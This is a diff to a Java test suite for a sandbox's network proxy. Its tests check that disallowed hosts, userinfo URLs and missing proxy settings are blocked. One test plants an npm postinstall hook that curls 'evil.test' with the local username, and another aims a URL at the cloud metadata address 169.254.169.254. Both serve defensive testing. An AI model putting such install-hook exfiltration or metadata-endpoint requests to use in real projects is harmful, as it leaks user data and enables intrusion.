@@ -8,6 +8,7 @@ import java.io.UncheckedIOException;
 import java.net.InetAddress;
 import java.net.InetSocketAddress;
 import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
 import java.util.List;
 import java.util.Queue;
 import java.util.Set;
@@ -54,14 +55,13 @@ class ProxyAttacksTest extends SandboxTestBed {
   @Override
   SandboxSettings settings(SandboxSettings standard) {
     return standard.with(
-        ProxySettings.standard()
-            .withPorts(Set.of(port))
-            .withInternalHosts(Set.of("localhost"))
-            .reportingTo(requests::add));
+        ProxySettings.standard().withPorts(Set.of(port)).withInternalHosts(Set.of("localhost")));
   }
 
   private String with(List<String> hosts, String script) {
-    return run(Command.script(workTree, script).with(new Network.Allowed(hosts))).written().text();
+    return run(Command.script(workTree, script).with(new Network.Allowed(hosts, requests::add)))
+        .written()
+        .text();
   }
 
   private String curl(String options) {
@@ -73,7 +73,7 @@ class ProxyAttacksTest extends SandboxTestBed {
     var url = "http://localhost:" + port + "/path?query";
     assertThat(with(List.of("localhost"), curl("-d body " + url))).isEqualTo("hello\n");
     assertThat(served).containsExactly("/path?query localhost:" + port + " body");
-    assertThat(requests).containsExactly(new NetworkRequest(workTree, "localhost:" + port, ""));
+    assertThat(requests).containsExactly(new NetworkRequest("localhost:" + port, ""));
   }
 
   @Test
@@ -147,5 +147,67 @@ class ProxyAttacksTest extends SandboxTestBed {
     assertThat(outcome)
         .isInstanceOfSatisfying(
             Outcome.Exited.class, exited -> assertThat(exited.code()).isEqualTo(7));
+  }
+
+  @Test
+  void net05_aNameWithAUserInItIsNoName() {
+    var url = "http://localhost@169.254.169.254:" + port + "/";
+    assertThat(with(List.of("localhost"), curl("-i " + url)))
+        .contains("400")
+        .contains("X-Proxy-Error");
+    assertThat(served).isEmpty();
+  }
+
+  @Test
+  void net12_withoutTheProxysVariablesNothingIsReached() {
+    var script = "unset http_proxy HTTP_PROXY; " + curl("http://localhost:" + port + "/");
+    assertThat(with(List.of("localhost"), script)).contains("curl: (7)");
+    assertThat(served).isEmpty();
+  }
+
+  @Test
+  void net13_whatAnInstallScriptSendsGoesThroughTheProxyAndIsTold() throws IOException {
+    Files.writeString(
+        workTree.resolve("package.json"),
+        """
+        {"name": "x", "version": "1.0.0", "scripts": {"postinstall":
+         "curl -sS http://evil.test/$(id -un); curl -sS http://localhost:PORT/home"}}
+        """
+            .replace("PORT", Integer.toString(port)));
+    ownership.give(workTree);
+    var written = with(List.of("localhost"), "npm install --offline --foreground-scripts 2>&1");
+    assertThat(written).contains("evil.test is not on the list of allowed hosts");
+    assertThat(requests)
+        .contains(new NetworkRequest("evil.test", "evil.test is not on the list of allowed hosts"))
+        .hasSize(1);
+    assertThat(served).isEmpty();
+  }
+
+  @Test
+  void net14_withoutAProxyNothingRuns() {
+    var deep = directory.resolve("a-name-so-long-that-no-socket-fits-below-it".repeat(4));
+    try (var broken = Bubblewrap.open(settings(SandboxSettings.in(deep)))) {
+      var command = Command.script(workTree, "touch ran");
+      assertThat(
+              broken.run(
+                  command.with(new Network.Allowed(List.of("localhost"))), OutputListener.SILENT))
+          .isInstanceOf(Outcome.Unavailable.class);
+      assertThat(workTree.resolve("ran")).doesNotExist();
+      assertThat(broken.run(command, OutputListener.SILENT).succeeded()).isTrue();
+    }
+  }
+
+  @Test
+  void aRequestThatCannotBeToldIsNotLetThrough() {
+    var command =
+        Command.script(workTree, curl("http://localhost:" + port + "/"))
+            .with(
+                new Network.Allowed(
+                    List.of("localhost"),
+                    _ -> {
+                      throw new IllegalStateException("no record");
+                    }));
+    assertThat(run(command).written().text()).doesNotContain("hello");
+    assertThat(served).isEmpty();
   }
 }
